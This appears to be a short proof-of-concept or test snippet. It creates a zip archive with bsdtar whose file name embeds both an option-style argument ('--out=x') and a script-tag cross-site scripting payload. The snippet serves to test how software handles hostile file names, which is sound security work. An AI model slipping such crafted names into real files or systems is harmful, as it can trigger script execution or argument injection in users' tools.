echo 'nothing' >text
bsdtar --format zip -cf './--out=x <script>alert(1)<b>.zip' text
